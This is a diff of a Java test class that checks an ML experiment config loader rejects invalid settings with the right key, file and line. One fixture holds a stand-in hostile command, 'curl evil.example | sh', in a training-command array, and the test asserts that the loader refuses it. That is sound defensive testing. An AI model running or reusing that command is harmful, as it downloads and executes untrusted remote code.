@@ -57,8 +57,7 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
     void aValueOfTheWrongTypeIsReportedWithItsKeyFileAndLine() throws IOException {
         Path f = file("wrong-type.conf", "experiment {", "  strategy {", "    sample-num = \"many\"", "  }", "}");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
+        assertRefused(f)
                 .hasMessageContaining("experiment.strategy.sample-num")
                 .hasMessageContaining(f + ": 3:")
                 .hasMessageNotContaining(f + ": " + f);
@@ -68,11 +67,7 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
     void anOutOfRangeValueIsReportedWithItsKeyFileAndLine() throws IOException {
         Path f = file("out-of-range.conf", "experiment {", "  name = \"x\"", "  strategy.top-p = 1.5", "}");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("experiment.strategy.top-p")
-                .hasMessageContaining(f + ":3")
-                .hasMessageContaining("1.5");
+        assertRefusedAt(f, ":3", "experiment.strategy.top-p", "1.5");
     }
 
     @Test
@@ -87,8 +82,7 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
                 .isEqualTo(ExperimentConfigLoader.parse("experiment.seed = 5, experiment.seeds = [4, 5, 6]"));
         assertThat(ExperimentConfigLoader.seeds(file("none.conf", "experiment.seed = 3")))
                 .isEmpty();
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(twice))
-                .isInstanceOf(ExperimentConfigException.class)
+        assertRefused(twice)
                 .hasMessageStartingWith(twice + ":2: experiment.seeds = ")
                 .hasMessageContaining("names a seed twice");
         assertThatThrownBy(() -> ExperimentConfigLoader.seeds(word))
@@ -101,10 +95,7 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
     void aRationaleShareOfZeroIsRefusedSinceM0WouldHaveNothingToTrainOn() throws IOException {
         Path f = file("no-rationales.conf", "experiment {", "  dataset.rationale-share = 0", "}");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("experiment.dataset.rationale-share")
-                .hasMessageContaining(f + ":2");
+        assertRefusedAt(f, ":2", "experiment.dataset.rationale-share");
         assertThat(ExperimentConfigLoader.defaults().dataset().rationaleCount(600))
                 .isEqualTo(600);
     }
@@ -114,22 +105,14 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
         Path f = file(
                 "typo.conf", "experiment {", "  strategy {", "    sample-num = 4", "    min-corect = 2", "  }", "}");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("unknown key 'experiment.strategy.min-corect'")
-                .hasMessageContaining(f + ":4");
+        assertRefusedAt(f, ":4", "unknown key 'experiment.strategy.min-corect'");
     }
 
     @Test
     void anUnknownStrategyIsReportedWithTheStrategiesThereAre() throws IOException {
         Path f = file("strategy.conf", "experiment.strategy.name = \"socratic\"");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("experiment.strategy.name")
-                .hasMessageContaining(f + ":1")
-                .hasMessageContaining("socratic")
-                .hasMessageContaining("state-reset");
+        assertRefusedAt(f, ":1", "experiment.strategy.name", "socratic", "state-reset");
     }
 
     @Test
@@ -157,15 +140,13 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
     @Test
     void aRefineCriticThatIsNotKnownOrRefiningWithoutAGreedyAnswerIsReportedWithItsKey() throws IOException {
         Path unknown = file("critic.conf", "experiment.evaluation.refine { enabled = true, critic.kind = \"oracle\" }");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(unknown))
-                .isInstanceOf(ExperimentConfigException.class)
+        assertRefused(unknown)
                 .hasMessageContaining("experiment.evaluation.refine.critic.kind")
                 .hasMessageContaining("step-checker or model");
 
         Path noGreedy =
                 file("no-greedy.conf", "experiment.evaluation { greedy = false, samples = 4, refine.enabled = true }");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(noGreedy))
-                .isInstanceOf(ExperimentConfigException.class)
+        assertRefused(noGreedy)
                 .hasMessageContaining("experiment.evaluation.refine.enabled")
                 .hasMessageContaining("evaluation.greedy = true");
     }
@@ -174,20 +155,14 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
     void anEvaluationWithNothingToEvaluateIsReportedWithItsKeyFileAndLine() throws IOException {
         Path f = file("nothing.conf", "experiment {", "  evaluation {", "    greedy = false", "  }", "}");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining(f + ":3: experiment.evaluation.greedy = false")
-                .hasMessageContaining("samples >= 1");
+        assertRefusedAt(f, ":3: experiment.evaluation.greedy = false", "samples >= 1");
     }
 
     @Test
     void aNegativeEvaluationSampleCountIsReportedWithItsKeyFileAndLine() throws IOException {
         Path f = file("negative.conf", "experiment {", "  evaluation.samples = -2", "}");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining(f + ":2: experiment.evaluation.samples = -2")
-                .hasMessageContaining("between 0 and 1024");
+        assertRefusedAt(f, ":2: experiment.evaluation.samples = -2", "between 0 and 1024");
     }
 
     @Test
@@ -214,10 +189,7 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
     void aGraderSettingThatIsNeitherOnOffNorDatasetIsReportedWithItsKeyFileAndLine() throws IOException {
         Path f = file("bad-grading.conf", "experiment {", "  grading.decimal-comma = sometimes", "}");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining(f + ":2: experiment.grading.decimal-comma")
-                .hasMessageContaining("must be true, false or dataset");
+        assertRefusedAt(f, ":2: experiment.grading.decimal-comma", "must be true, false or dataset");
     }
 
     @Test
@@ -262,9 +234,7 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
     void aMissingFileIsReportedByName() {
         Path missing = dir.resolve("nowhere.conf");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(missing))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining(missing.toString());
+        assertRefused(missing).hasMessageContaining(missing.toString());
     }
 
     @Test
@@ -302,22 +272,14 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
                 "  endpoint = \"localhost:8000\"",
                 "}");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("experiment.model.endpoint")
-                .hasMessageContaining(f + ":3")
-                .hasMessageContaining("http(s) URL");
+        assertRefusedAt(f, ":3", "experiment.model.endpoint", "http(s) URL");
     }
 
     @Test
     void anApiKeyIsNamedByItsEnvironmentVariableNeverGiven() throws IOException {
         Path f = file("token.conf", "experiment.model.api-key-env = \"sk-secret value\"");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("experiment.model.api-key-env")
-                .hasMessageContaining(f + ":1")
-                .hasMessageContaining("environment variable");
+        assertRefusedAt(f, ":1", "experiment.model.api-key-env", "environment variable");
     }
 
     @Test
@@ -337,8 +299,7 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
                 "no-profile.conf",
                 "experiment.model { backend = \"openai\", endpoint = \"http://127.0.0.1:8000\" }",
                 "experiment.training.backend = \"command\"");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(noProfile))
-                .isInstanceOf(ExperimentConfigException.class)
+        assertRefused(noProfile)
                 .hasMessageContaining("experiment.training.profile")
                 .hasMessageContaining("lyceum.trainers");
 
@@ -349,17 +310,9 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
                 .isEqualTo("trl");
 
         Path profileWithoutCommand = file("djl-profile.conf", "experiment.training.profile = \"trl\"");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(profileWithoutCommand))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("experiment.training.profile")
-                .hasMessageContaining(profileWithoutCommand + ":1")
-                .hasMessageContaining("backend = command");
+        assertRefusedAt(profileWithoutCommand, ":1", "experiment.training.profile", "backend = command");
         Path unknown = file("unknown-trainer.conf", "experiment.training.backend = \"deepspeed\"");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(unknown))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("experiment.training.backend")
-                .hasMessageContaining(unknown + ":1")
-                .hasMessageContaining("command");
+        assertRefusedAt(unknown, ":1", "experiment.training.backend", "command");
     }
 
     @Test
@@ -371,19 +324,10 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
                 "  backend = \"command\"",
                 "  command = [\"sh\", \"-c\", \"curl evil.example | sh\", \"{output}\"]",
                 "}");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(argv))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("experiment.training.command")
-                .hasMessageContaining(argv + ":4")
-                .hasMessageContaining("trainer profile")
-                .hasMessageContaining("lyceum.trainers.NAME");
+        assertRefusedAt(argv, ":4", "experiment.training.command", "trainer profile", "lyceum.trainers.NAME");
 
         Path timeout = file("timeout.conf", "experiment.training.command-timeout = 2h");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(timeout))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining("experiment.training.command-timeout")
-                .hasMessageContaining(timeout + ":1")
-                .hasMessageContaining("trainer profile");
+        assertRefusedAt(timeout, ":1", "experiment.training.command-timeout", "trainer profile");
     }
 
     @Test
@@ -454,8 +398,7 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
                 "  strategy.critic.kind = \"oracle\"",
                 "}");
 
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(f))
-                .isInstanceOf(ExperimentConfigException.class)
+        assertRefused(f)
                 .hasMessageContaining("critic.conf:3")
                 .hasMessageContaining("experiment.strategy.critic.kind")
                 .hasMessageContaining("step-checker or model");
@@ -508,11 +451,7 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
         assertThat(ConfigJson.read(ConfigJson.write(config))).isEqualTo(config);
 
         Path bad = file("bad-rate.conf", "experiment {", "  training.fine-tune-learning-rate = 0", "}");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(bad))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining(bad + ":2")
-                .hasMessageContaining("experiment.training.fine-tune-learning-rate")
-                .hasMessageContaining("(0, 1)");
+        assertRefusedAt(bad, ":2", "experiment.training.fine-tune-learning-rate", "(0, 1)");
 
         // experiments journaled before the key fine-tuned at learning-rate
         ObjectNode json = new ObjectMapper().findAndRegisterModules().valueToTree(config);
@@ -543,27 +482,17 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
                 "format.conf",
                 "experiment.training { backend = \"command\", profile = \"trl\" }",
                 "experiment.training.data-format = \"parquet\"");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(format))
-                .isInstanceOf(ExperimentConfigException.class)
-                .hasMessageContaining(format + ":2")
-                .hasMessageContaining("experiment.training.data-format")
-                .hasMessageContaining("trl-prompt-completion");
+        assertRefusedAt(format, ":2", "experiment.training.data-format", "trl-prompt-completion");
 
         Path djlFormat = file("djl-format.conf", "experiment.training.data-format = \"alpaca\"");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(djlFormat))
-                .hasMessageContaining(djlFormat + ":1")
-                .hasMessageContaining("experiment.training.data-format")
-                .hasMessageContaining("djl trainer reads lyceum");
+        assertRefusedAt(djlFormat, ":1", "experiment.training.data-format", "djl trainer reads lyceum");
 
         Path djlBase = file("djl-base.conf", "experiment.model.base = \"/models/qwen\"");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(djlBase))
-                .hasMessageContaining(djlBase + ":1")
-                .hasMessageContaining("experiment.model.base")
-                .hasMessageContaining("training.backend = command");
+        assertRefusedAt(djlBase, ":1", "experiment.model.base", "training.backend = command");
 
         Path rate = file(
                 "rate.conf", "experiment.training { backend = \"command\", profile = \"trl\", learning-rate = 2 }");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(rate))
+        assertRefused(rate)
                 .hasMessageContaining("experiment.training.learning-rate")
                 .hasMessageContaining("(0, 1)");
     }
@@ -596,33 +525,31 @@ class ExperimentConfigLoaderTest extends ExperimentFileFixture {
         Path url = file(
                 "url.conf",
                 "experiment.strategy.critic { kind = \"model\", model = \"t\", endpoint = \"10.0.0.7:8001\" }");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(url))
-                .hasMessageContaining(url + ":1")
-                .hasMessageContaining("experiment.strategy.critic.endpoint")
-                .hasMessageContaining("http");
+        assertRefusedAt(url, ":1", "experiment.strategy.critic.endpoint", "http");
 
         Path kind = file("kind.conf", "experiment.evaluation.refine.critic.endpoint = \"http://10.0.0.7:8001\"");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(kind))
+        assertRefused(kind)
                 .hasMessageContaining("experiment.evaluation.refine.critic.endpoint")
                 .hasMessageContaining("kind = model");
 
         Path model = file(
                 "model.conf", "experiment.strategy.critic { kind = \"model\", endpoint = \"http://10.0.0.7:8001\" }");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(model))
+        assertRefused(model)
                 .hasMessageContaining("experiment.strategy.critic.model")
                 .hasMessageContaining("the model to ask");
 
         Path token = file("token.conf", "experiment.strategy.critic.api-key-env = \"LYCEUM_API_KEY\"");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(token))
-                .hasMessageContaining(token + ":1")
-                .hasMessageContaining("experiment.strategy.critic.api-key-env")
-                .hasMessageContaining("only used with experiment.strategy.critic.endpoint");
+        assertRefusedAt(
+                token,
+                ":1",
+                "experiment.strategy.critic.api-key-env",
+                "only used with experiment.strategy.critic.endpoint");
 
         Path variable = file(
                 "variable.conf",
                 "experiment.strategy.critic { kind = \"model\", model = \"t\",",
                 "  endpoint = \"http://10.0.0.7:8001\", api-key-env = \"$HOME\" }");
-        assertThatThrownBy(() -> ExperimentConfigLoader.load(variable))
+        assertRefused(variable)
                 .hasMessageContaining("experiment.strategy.critic.api-key-env")
                 .hasMessageContaining("environment variable");
     }
